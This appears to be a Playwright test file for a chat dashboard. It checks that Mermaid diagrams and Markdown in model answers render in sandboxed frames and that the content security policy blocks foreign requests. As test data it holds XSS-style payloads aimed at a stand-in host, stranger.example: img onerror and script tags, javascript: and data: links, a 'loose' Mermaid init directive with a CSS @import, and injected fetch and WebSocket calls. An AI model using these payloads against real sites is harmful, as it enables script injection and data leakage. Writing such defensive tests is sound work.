// Diagrams in answers: drawn in a frame with an opaque origin, in the page's theme, and no way out for untrusted text.
import { expect, test, type Page, type Request } from '#tests/support/parsed-sample'
import { chooseModel, openSample } from '#tests/support/dashboard'
import { startOllamaStandIn } from '#tests/support/ollama-stand-in'
import type { ServiceProcess } from '#tests/support/service-process'

const stranger = 'http://stranger.example'
const diagrams: Readonly<Record<string, string>> = {
  plain: `flowchart LR\n  A[Listener] --> B[createContext]${Array.from({ length: 9 }, (_, at) => ` --> C${at}[A part of some length]`).join('')}`,
  hostile: [
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(http://stranger.example/css);"}}%%',
    'flowchart LR',
    `  A["<img src=${stranger}/img onerror=top.stolen=1>"] --> B["<script>top.stolen=1</script>text"]`,
    `  click A "${stranger}/click" _top`,
    '  click B call alert("called")',
  ].join('\n'),
  picture: `flowchart LR\n  C@{ img: "${stranger}/image.png", label: "picture" }`,
  broken: 'flowchart LR\n  A --> --> [',
  huge: `flowchart LR\n${Array.from({ length: 900 }, (_, index) => `  N${index} --> N${index + 1}`).join('\n')}`,
}

/** What an answer may try so that a page loads or runs something. */
const foreign = [
  `![image](${stranger}/img) ![other][1] <img src="${stranger}/tag" onerror="stolen=1">`,
  `[the documentation](${stranger}/page?q=all-of-it)`,
  '[script](javascript:stolen=1) [data](data:text/html,<script>top.stolen=1</script>)',
  `<script>stolen=1</script> <style>body{background:url(${stranger}/css)}</style>`,
  `<svg><image href="${stranger}/svg"/></svg> <iframe src="${stranger}"></iframe>`,
  `[1]: ${stranger}/reference`,
  'End of it.',
].join('\n\n')

/** Each frame costs some megabytes: these took all memory that a page may have. */
const hundred = Array.from({ length: 100 }, (_, at) => `\`\`\`mermaid\nflowchart LR\n  A --> B${at}\n\`\`\``).join(
  '\n\n',
)

let standIn: Awaited<ReturnType<typeof startOllamaStandIn>>
let service: ServiceProcess

test.beforeAll(async ({ sample }) => {
  standIn = await startOllamaStandIn({
    models: [{ name: 'pebble:1b', capabilities: ['completion'] }],
    chat: ({ messages }) => {
      if (messages.at(-1)?.content.includes('the foreign diagram') === true) return { text: [foreign] }
      if (messages.at(-1)?.content.includes('the hundredth diagram') === true) return { text: [hundred] }
      const asked = Object.keys(diagrams).find((name) => messages.at(-1)?.content.includes(`the ${name} diagram`))
      return { text: [`Here it is.\n\n\`\`\`mermaid\n${diagrams[asked ?? 'plain']}\n\`\`\`\n`] }
    },
  })
  service = await sample.start({ OLLAMA_HOST: standIn.url })
})
test.afterAll(async () => {
  await service.stop()
  await standIn.close()
})

async function askFor(page: Page, name: string): Promise<void> {
  await openSample(page, service)
  await chooseModel(page, /pebble:1b/)
  await question(page, name)
}

async function question(page: Page, name: string): Promise<void> {
  // While an answer is being written, Enter sends no other question.
  await expect(page.getByRole('button', { name: 'Stop' })).toHaveCount(0)
  await page.getByRole('combobox', { name: 'Question' }).fill(`draw the ${name} diagram of createContext`)
  await page.keyboard.press('Enter')
}

/** Records what escapes the page: requests to other hosts that the policy didn't block, and dialogs. */
function watchEscapes(page: Page): readonly string[] {
  const escapes: string[] = []
  const note = (request: Request) => {
    if (request.url().startsWith(stranger) && request.failure()?.errorText !== 'csp') escapes.push(request.url())
  }
  page.on('requestfailed', note)
  page.on('requestfinished', note)
  page.on('dialog', () => escapes.push('dialog'))
  return escapes
}

test('draws in a frame with an opaque origin, follows the theme, and keeps its text', async ({ page }) => {
  await askFor(page, 'plain')
  const frame = page.locator('iframe[title="Diagram"]')
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
  const inside = frame.contentFrame()
  const drawn = inside.locator('#diagram').getByText('createContext')
  await expect(drawn).toBeVisible()
  // A diagram wider than the page stays readable; Mermaid alone would shrink its text to nothing.
  expect((await drawn.boundingBox())?.height).toBeGreaterThan(9)
  // Would catch: a diagram cut off with nothing to show that it continues.
  const edge = (side: string) => inside.locator(`[data-edge="${side}"]`)
  await expect(edge('right')).toBeVisible()
  await expect(edge('left')).toBeHidden()
  await drawn.evaluate(() => scrollTo(100_000, 0))
  await expect(edge('left')).toBeVisible()
  await expect(edge('right')).toBeHidden()
  await drawn.evaluate(() => scrollTo(0, 0))
  // Text is measured with the font before it is drawn.
  const fonts = () => inside.locator('body').evaluate(() => [...document.fonts].map(({ status }) => status))
  expect(await fonts()).toEqual(['loaded'])
  await expect(drawn).toHaveCSS('font-family', /^"?InterVariable/)
  const ground = () => inside.locator('body').evaluate((body) => getComputedStyle(body).backgroundColor)
  const before = await ground()
  await page.emulateMedia({ colorScheme: 'dark' })
  await expect.poll(ground).not.toBe(before)
  const reached = await inside.locator('body').evaluate(() => {
    try {
      return String(window.parent.document.title)
    } catch {
      return 'refused'
    }
  })
  expect(reached).toBe('refused')
  await page.getByText('Show as text').click()
  await expect(page.getByRole('article').locator('pre')).toContainText('A[Listener] --> B[createContext]')
})

test('a hostile diagram reaches nothing and changes nothing', async ({ page }) => {
  const escapes = watchEscapes(page)
  await askFor(page, 'hostile')
  const frame = page.locator('iframe[title="Diagram"]')
  await expect(frame.contentFrame().locator('svg').first()).toBeVisible()
  const labels = frame.contentFrame().locator('#diagram .node')
  await labels.first().click()
  await labels.nth(1).click()
  expect(await frame.contentFrame().locator('a, foreignObject img, script[src^="http"]').count()).toBe(0)
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  expect(page.url()).toMatch(/\/conversations\//)
  expect(escapes).toEqual([])
})

/** Would catch: a link that opens at a click, by whatever its text says, and sends what is in its address. */
async function expectAsks(page: Page): Promise<void> {
  const opened: string[] = []
  page.context().on('page', (other) => opened.push(other.url()))
  const link = page.getByRole('article').last().getByRole('link', { name: 'the documentation' })
  const dialog = page.getByRole('dialog', { name: 'Open stranger.example?' })
  for (const open of [() => link.click(), () => link.click({ button: 'middle' }), () => link.press('Enter')]) {
    await open()
    await expect(dialog).toContainText(`${stranger}/page?q=all-of-it`)
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await expect(dialog).toBeHidden()
  }
  expect(opened).toEqual([])
  await link.click()
  const asked = page.context().waitForEvent('page')
  await dialog.getByRole('button', { name: 'Open' }).click()
  await (await asked).close()
}

// Would catch: a policy that is sent and not enforced, and an answer that loads or runs something.
test('the page runs no foreign script and reaches no other host, whatever an answer says', async ({ page }) => {
  const escapes = watchEscapes(page)
  await askFor(page, 'foreign')
  const answer = page.getByRole('article').last()
  await expect(answer.getByText('End of it.')).toBeVisible()
  expect(await answer.locator('img, script, iframe, style, link, svg image').count()).toBe(0)
  const links = await answer.locator('a[href]').evaluateAll((all) => all.map((one) => one.getAttribute('href')))
  expect(links.filter((href) => /^(javascript|data|vbscript):/i.test(href?.trim() ?? ''))).toEqual([])
  await expectAsks(page)
  const blocked = await page.evaluate(async (host) => {
    const found = new Set<string>()
    document.addEventListener('securitypolicyviolation', (event) =>
      found.add(event.blockedURI === 'eval' ? 'eval' : event.effectiveDirective),
    )
    const add = (name: string, values: Readonly<Record<string, string>>): void => {
      document.body.append(Object.assign(document.createElement(name), values))
    }
    add('script', { textContent: 'window.stolen = 1' })
    add('script', { src: `${host}/a.js` })
    // Text that is run as a script, as `eval` does; a test's own code may use that.
    add('button', { id: 'runs-text' })
    document.querySelector('#runs-text')?.setAttribute('onclick', 'window.stolen = 1')
    setTimeout('window.stolen = 1' as never)
    add('img', { src: `${host}/a.png` })
    add('link', { rel: 'stylesheet', href: `${host}/a.css` })
    add('iframe', { src: `${host}/frame` })
    await fetch(host).catch(() => undefined)
    try {
      new WebSocket('ws://stranger.example/').close()
    } catch {
      // Some engines refuse at once, others later.
    }
    for (let turn = 0; turn < 3_000 && found.size < 7; turn++) await new Promise((resolve) => setTimeout(resolve, 20))
    return [...found].sort()
  }, stranger)
  expect(blocked).toEqual([
    'connect-src',
    'eval',
    'frame-src',
    'img-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-elem',
  ])
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  expect(escapes).toEqual([])
})

// C-17. Would catch: a policy that stops the page's own requests, and a file or badge from another host.
test('the documentation page sends a request with a key, and reaches no other host', async ({ page }) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith('data:') && new URL(request.url()).origin !== service.url)
      elsewhere.push(request.url())
  })
  const path = '/api/v2/agents'
  // The page with this request alone: drawing a hundred takes seconds.
  await page.route('**/openapi.json', async (route) => {
    const response = await route.fetch()
    const described = (await response.json()) as { paths: Readonly<Record<string, unknown>> }
    await route.fulfill({ response, json: { ...described, paths: { [path]: described.paths[path] } } })
  })
  await page.goto(`${service.url}/docs`)
  await page.getByRole('button', { name: 'Authorize' }).click()
  const keys = page.locator('.auth-container').first()
  await keys.getByRole('textbox').fill(service.key)
  await keys.getByRole('button', { name: 'Apply credentials' }).click()
  await page.getByRole('button', { name: 'Close', exact: true }).first().click()
  const agents = page.locator('.opblock', { has: page.locator(`[data-path="${path}"]`) }).first()
  await agents.locator('.opblock-summary-control').click()
  await agents.getByRole('button', { name: 'Execute' }).click()
  const answer = agents.locator('.live-responses-table')
  await expect(answer.locator('.response-col_status').last()).toContainText('200')
  await expect(answer.locator('.response-col_description').last()).toContainText('codebase_qna_agent')
  expect(elsewhere).toEqual([])
})

test('a diagram that can’t be drawn stays text, with the reason', async ({ page }) => {
  const escapes = watchEscapes(page)
  await askFor(page, 'broken')
  const last = page.getByRole('article').last()
  for (const [name, said] of [
    ['broken', 'This diagram could not be read. Its text:'],
    ['huge', 'This diagram is too large to draw. Its text:'],
    // Its image is blocked, and without it there is no size.
    ['picture', 'This diagram could not be read. Its text:'],
  ] as const) {
    if (name !== 'broken') await question(page, name)
    await expect(last.getByRole('heading', { level: 2 })).toContainText(name)
    await expect(last.getByText(said)).toBeVisible()
    await expect(last.locator('pre')).toContainText('flowchart LR')
    await expect(last.locator('iframe')).toHaveCount(0)
  }
  expect(escapes).toEqual([])
})

// Would catch: an answer of three kilobytes that ends the page, each time its conversation is opened.
test('of very many diagrams, only those that are seen are drawn', async ({ page }) => {
  await askFor(page, 'hundredth')
  await expect(page.getByText('Show as text')).toHaveCount(100)
  const frames = page.locator('iframe[title="Diagram"]')
  for (const at of [0, 30, 60, 99]) {
    await page.getByText('Show as text').nth(at).scrollIntoViewIfNeeded()
    await expect(frames.last().contentFrame().locator('#diagram svg')).toBeAttached()
    expect(await frames.count()).toBeLessThanOrEqual(24)
  }
})
